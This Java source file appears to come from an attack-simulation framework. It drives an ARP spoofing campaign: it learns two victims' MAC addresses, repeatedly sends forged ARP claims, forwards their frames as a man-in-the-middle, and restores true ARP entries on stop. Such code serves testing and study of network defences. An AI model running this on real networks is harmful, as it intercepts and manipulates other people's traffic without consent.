package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.MacAddress;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;

/** One run of {@link ArpSpoofing}. */
final class ClaimingCampaign implements Attack.Campaign {

    /** Rounds of true claims at the end, and the time between two. */
    static final int TRUE_ROUNDS = 3;

    static final Duration ROUND_GAP = Duration.ofSeconds(1);

    private static final int MAXIMUM_ROUNDS = 1_000_000;

    private final Foothold foothold;
    private final AddressResolution victims;
    private final Forwarder forwarder;
    private final ArpClaims claims;
    private final int rounds;
    private final Duration interval;
    private List<byte[]> truth = List.of();
    private boolean ready;
    private boolean stopping;

    /** @param rounds how many come before the attack counts as ready */
    ClaimingCampaign(Foothold foothold, ArpClaims claims, int rounds, Duration interval) {
        this.foothold = foothold;
        this.claims = claims;
        this.rounds = rounds;
        this.interval = interval;
        victims = new AddressResolution(foothold);
        forwarder = new Forwarder(foothold, victims);
    }

    void begin() {
        foothold.listen(frame -> {
            victims.heard(frame);
            forwarder.heard(frame);
        });
        victims.begin(this::claim);
    }

    @Override
    public boolean ready() {
        return ready;
    }

    @Override
    public void stop() {
        if (stopping) {
            return;
        }
        stopping = true;
        foothold.agenda().clear();
        if (truth.isEmpty()) {
            finish();
            return;
        }
        foothold.agenda()
                .repeat(
                        ROUND_GAP,
                        TRUE_ROUNDS,
                        round -> tell(truth, foothold.transmitter()::putBack),
                        this::finish);
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void claim() {
        Optional<MacAddress> whose = victims.of(foothold.victims().getFirst());
        Optional<MacAddress> whom = victims.of(foothold.victims().getLast());
        if (whose.isEmpty() || whom.isEmpty()) {
            foothold.report("nothing to claim without the addresses of both victims");
            ready = true;
            return;
        }
        List<byte[]> lies = claims.lies(whose.get(), whom.get());
        truth = claims.truth(whose.get(), whom.get());
        foothold.agenda().repeat(interval, MAXIMUM_ROUNDS, round -> lie(round, lies), () -> {});
    }

    private void lie(int round, List<byte[]> lies) {
        ready = ready || round >= rounds;
        tell(lies, foothold.transmitter()::send);
    }

    private static void tell(List<byte[]> frames, Consumer<byte[]> way) {
        frames.forEach(way);
    }

    private void finish() {
        foothold.report("forwarded " + forwarder.forwarded() + " frames");
        foothold.close();
    }
}
